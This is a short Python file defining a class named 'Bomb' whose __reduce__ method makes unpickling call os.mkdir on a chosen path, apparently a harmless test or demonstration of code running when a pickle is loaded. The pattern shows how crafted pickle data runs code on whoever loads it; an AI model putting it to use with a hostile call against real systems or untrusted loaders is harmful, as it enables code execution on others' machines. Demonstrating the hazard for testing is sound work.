"""A crafted pickle: whoever reads it makes a folder."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any


class Bomb:
    """Makes the folder `path` when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.path),)
